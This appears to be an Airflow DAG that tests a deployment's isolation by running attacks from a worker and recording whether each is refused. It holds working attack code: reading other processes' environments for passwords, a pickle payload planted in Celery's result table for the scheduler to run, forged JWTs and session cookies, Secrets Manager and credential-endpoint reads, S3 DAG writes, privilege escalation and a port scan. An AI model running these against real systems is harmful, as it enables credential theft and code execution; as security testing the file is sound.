"""What code in a DAG tries to do and must not be able to.

Each task returns how it ended: `refused: …`, `reached: …`. Tasks whose name begins with `may` are the controls: the same way, allowed.
"""
import hashlib
import ipaddress
import json
import os
import pickle
import socket
import subprocess
import time
import urllib.error
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from urllib.parse import unquote, urlsplit

import boto3
import jwt
import psycopg2
from airflow.sdk import dag, get_current_context, task
from airflow.sdk.configuration import conf
from celery import Celery
from flask.json.tag import TaggedJSONSerializer
from itsdangerous import URLSafeTimedSerializer

WEB_SERVER = "http://webserver.airflow:8080"
PASSWORDS = ("AIRFLOW_REDIS_PASSWORD", "AIRFLOW_RESULT_DB_PASSWORD")


def attempt(work):
    """How it ended. The text of a refusal is what the other side said."""
    try:
        return f"reached: {work()}"
    except Exception as error:
        return f"refused: {type(error).__name__}: {str(error).strip()}"


def known(name):
    """What the attacker was told: an output of the stack."""
    return get_current_context()["params"][name]


def url(option):
    """With a password that tasks are not given: the worker has it, whose processes are those of the same user."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
            variables = dict(variable.decode().split("=", 1) for variable in file.read().split(b"\0") if b"=" in variable)
            os.environ.update({name: variables[name] for name in PASSWORDS if name in variables})
    value = conf.get("celery", option)
    for name in PASSWORDS:
        os.environ.pop(name, None)
    return value


def result_backend():
    return urlsplit(url("result_backend"))


def log_in(database, **changes):
    url = result_backend()
    login = dict(host=url.hostname, port=url.port, user=url.username, password=unquote(url.password), sslmode="require")
    return psycopg2.connect(dbname=database, connect_timeout=5, **{**login, **changes})


def ask(database, query="select current_user", **changes):
    with log_in(database, **changes) as connection, connection.cursor() as cursor:
        cursor.execute(query)
        return f"{cursor.fetchone()[0]} in {database}"


def http(method, url, headers=None, size=200):
    request = urllib.request.Request(url, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return f"HTTP {response.status} {response.read(size)}"
    except urllib.error.HTTPError as error:
        raise PermissionError(f"HTTP {error.code} {error.read(size)}") from error


def connect(host, port):
    with socket.create_connection((host, port), timeout=3):
        return f"{host}:{port}"


def redis(*commands):
    broker = urlsplit(url("broker_url"))
    with socket.create_connection((broker.hostname, broker.port), timeout=5) as connection:
        for command in commands:
            connection.sendall((command + "\r\n").encode())
        answer = connection.recv(1000).decode().strip()
    if answer.startswith("-"):
        raise PermissionError(answer)
    return answer


def forged(**claims):
    now = int(time.time())
    return jwt.encode(
        {"iat": now, "nbf": now, "exp": now + 600, "jti": uuid.uuid4().hex, **claims}, "0123456789abcdef" * 8, algorithm="HS512",
    )


def secret(name):
    return len(boto3.client("secretsmanager").get_secret_value(SecretId=known(name))["SecretString"])


def write(path):
    with open(path, "w") as file:
        file.write("x")
    os.remove(path)
    return path


# database


@task
def may_log_in_to_result_database():
    return attempt(lambda: ask("airflow_results"))


@task
def metadata_database_with_own_role():
    return attempt(lambda: ask("airflow"))


@task
def metadata_database_without_its_password():
    return attempt(lambda: ask("airflow", user="airflow"))


@task
def tables_in_another_database():
    """Everybody may log in to the server's own one, which is empty."""
    return attempt(lambda: ask("postgres", "create table mine (id int)"))


@task
def database_without_tls():
    return attempt(lambda: ask("airflow_results", sslmode="disable"))


@task
def passwords_of_database_roles():
    return attempt(lambda: ask("airflow_results", "select rolpassword from pg_authid"))


class Poison:
    def __reduce__(self):
        return os.system, ("touch /tmp/poisoned",)


@task
def poisoned_result():
    """Celery keeps results as pickles, and the scheduler loads those of running tasks: of this one, too."""
    def poison():
        active = Celery(broker=url("broker_url")).control.inspect(timeout=2).active()
        running = [celery_task["id"] for worker in active.values() for celery_task in worker]
        with log_in("airflow_results") as connection, connection.cursor() as cursor:
            for celery_id in running:
                cursor.execute(
                    "insert into celery_taskmeta (id, task_id, status, result) values (nextval('task_id_sequence'), %s, 'STARTED', %s)"
                    " on conflict (task_id) do update set result = excluded.result",
                    [celery_id, pickle.dumps(Poison())],
                )
            connection.commit()
            cursor.execute("select count(*) from celery_taskmeta where result is not null and task_id = any(%s)", [running])
            kept = cursor.fetchone()[0]
        time.sleep(10)  # longer than the scheduler needs to ask for results
        if kept:
            return f"{kept} of {len(running)}"
        raise PermissionError(f"the results of {len(running)} tasks are not kept")
    return attempt(poison)


@task
def own_table_of_results():
    def replace():
        with log_in("airflow_results") as connection, connection.cursor() as cursor:
            cursor.execute("alter table celery_taskmeta disable trigger all")
    return attempt(replace)


@task
def own_schema_of_results():
    def create():
        with log_in("airflow_results") as connection, connection.cursor() as cursor:
            cursor.execute("create schema mine")
    return attempt(create)


# credentials


@task
def passwords_in_own_environment():
    shown = f"{os.environ} {subprocess.check_output(['/usr/bin/env'], text=True)}"
    found = [name for name in PASSWORDS if f"{name}=" in shown or f"'{name}':" in shown]
    return f"reached: {found}" if found else "refused: none is there"


@task
def may_print_its_environment():
    """What it shows is in its log, where the passwords and keys are looked for."""
    def show():
        print(os.environ)
        print(json.dumps(dict(os.environ)))
        print(subprocess.check_output(["/usr/bin/env"], text=True))
        print(conf.get("api", "secret_key"))
        return "printed"
    return attempt(show)


@task
def secrets_in_environment():
    """Of its own process and of every other one of its user."""
    wanted = ("JWT_SECRET", "FERNET_KEY", "AIRFLOW_DB_PASSWORD", "ADMIN_PASSWORD", "FLOWER")
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ") as file:
                variables = [variable.split("=")[0] for variable in file.read().split("\0")]
        except OSError:
            continue
        found |= {variable for variable in variables if any(part in variable for part in wanted)}
    return f"reached: {sorted(found)}" if found else "refused: none is there"


@task
def jwt_secret():
    return attempt(lambda: secret("JwtSecret"))


@task
def database_password():
    return attempt(lambda: secret("DatabasePassword"))


@task
def broker_password():
    """Which its container has: the execution role may read it, its own role may not."""
    return attempt(lambda: secret("BrokerPassword"))


@task
def fernet_key():
    return attempt(lambda: secret("FernetKey"))


@task
def all_secrets():
    return attempt(lambda: boto3.client("secretsmanager").list_secrets()["SecretList"])


@task
def credentials_of_another_task():
    return attempt(lambda: http("GET", f"http://169.254.170.2/v2/credentials/{uuid.uuid4().hex}"))


# S3


@task
def may_read_dags():
    return attempt(lambda: f'{len(boto3.client("s3").list_objects_v2(Bucket=known("DagBucket"), Prefix="dags/dags/").get("Contents", []))} files')


@task
def write_dags():
    return attempt(lambda: boto3.client("s3").put_object(Bucket=known("DagBucket"), Key="dags/dags/attack.py", Body=b""))


@task
def other_prefix_of_log_bucket():
    return attempt(lambda: boto3.client("s3").put_object(Bucket=known("LogBucket"), Key="other/x", Body=b""))


@task
def delete_logs():
    return attempt(lambda: boto3.client("s3").delete_object(Bucket=known("LogBucket"), Key="logs/x"))


@task
def read_other_bucket():
    return attempt(lambda: boto3.client("s3").get_object(Bucket=known("OtherBucket"), Key="x"))


@task
def write_other_bucket():
    return attempt(lambda: boto3.client("s3").put_object(Bucket=known("OtherBucket"), Key="x", Body=b""))


@task
def all_buckets():
    return attempt(lambda: boto3.client("s3").list_buckets()["Buckets"])


# files


@task
def may_write_to_temporary_folder():
    return attempt(lambda: write("/tmp/attack"))


@task
def write_elsewhere():
    folders = ["/", "/etc", "/home/airflow", "/opt", "/opt/airflow", "/opt/airflow/dags", "/root", "/run", "/usr/local/bin", "/var", os.path.dirname(os.__file__)]
    ends = {folder: attempt(lambda folder=folder: write(f"{folder}/attack")) for folder in folders if os.path.isdir(folder)}
    reached = [folder for folder, end in ends.items() if end.startswith("reached")]
    return f"reached: {reached}" if reached else f"refused: {sorted({end.split(': ')[1] for end in ends.values()})}"


@task
def become_root():
    return attempt(lambda: os.setuid(0))


# network


@task
def may_reach_web_server():
    return attempt(lambda: connect("webserver.airflow", 8080))


@task
def internet():
    return attempt(lambda: connect("192.0.2.1", 80))


@task
def flower():
    return attempt(lambda: connect("flower.airflow", 5555))


@task
def port_scan():
    """Of the neighbours: which ports are open for it, besides those of its own task."""
    own = socket.gethostbyname(socket.gethostname())
    neighbours = [str(address) for address in ipaddress.ip_network(f"{own}/26", strict=False) if str(address) != own]
    targets = [(address, port) for address in neighbours for port in (5432, 5555, 6379, 8080, 8793, 8794, 8974)]
    with ThreadPoolExecutor(64) as pool:
        ends = pool.map(lambda target: attempt(lambda: connect(*target)), targets)
    return f"refused: all but {sorted({port for (_, port), end in zip(targets, ends) if end.startswith('reached')})}"


@task
def unknown_name():
    return attempt(lambda: socket.gethostbyname("example.com"))


# Airflow


@task
def message_without_password():
    return attempt(lambda: redis("LPUSH default forged"))


@task
def may_call_execution_api():
    return attempt(lambda: http("GET", f"{WEB_SERVER}/execution/health"))


@task
def execution_api_without_token():
    return attempt(lambda: http("GET", f"{WEB_SERVER}/execution/connections/any"))


@task
def execution_api_with_forged_token():
    token = forged(sub=str(get_current_context()["ti"].id), aud="urn:airflow.apache.org:task", scope="execution")
    return attempt(lambda: http("GET", f"{WEB_SERVER}/execution/connections/any", {"Authorization": f"Bearer {token}"}))


@task
def rest_api_with_forged_token():
    token = forged(sub="1", aud="apache-airflow")
    return attempt(lambda: http("GET", f"{WEB_SERVER}/api/v2/connections", {"Authorization": f"Bearer {token}"}))


@task
def forged_session():
    """With the key that signs sessions, which workers have: sessions are kept in the database, where this one is not."""
    def log_in_as_first_user():
        serializer = URLSafeTimedSerializer(
            conf.get("api", "secret_key"), salt="cookie-session", serializer=TaggedJSONSerializer(),
            signer_kwargs={"key_derivation": "hmac", "digest_method": hashlib.sha1},
        )
        cookie = serializer.dumps({"_user_id": "1", "_fresh": True})
        page = http("GET", f"{WEB_SERVER}/auth/login/", {"Cookie": f"session={cookie}"}, size=100_000)
        if 'name="password"' in page:
            raise PermissionError("asked for the password")
        return page
    return attempt(log_in_as_first_user)


@task
def logs_without_token():
    return attempt(lambda: http("GET", f"http://{socket.gethostbyname(socket.gethostname())}:8793/log/any"))


@task
def logs_with_forged_token():
    token = forged(filename="any", aud="task-instance-logs")
    return attempt(lambda: http("GET", f"http://{socket.gethostbyname(socket.gethostname())}:8793/log/any", {"Authorization": token}))


TASKS = [value for value in list(globals().values()) if type(value).__name__ == "_TaskDecorator"]


@dag(schedule=None, max_active_tasks=4, params={name: "" for name in (
    "OtherBucket", "LogBucket", "DagBucket", "JwtSecret", "DatabasePassword", "BrokerPassword", "FernetKey",
)})
def attacks():
    for attack in TASKS:
        attack()


attacks()
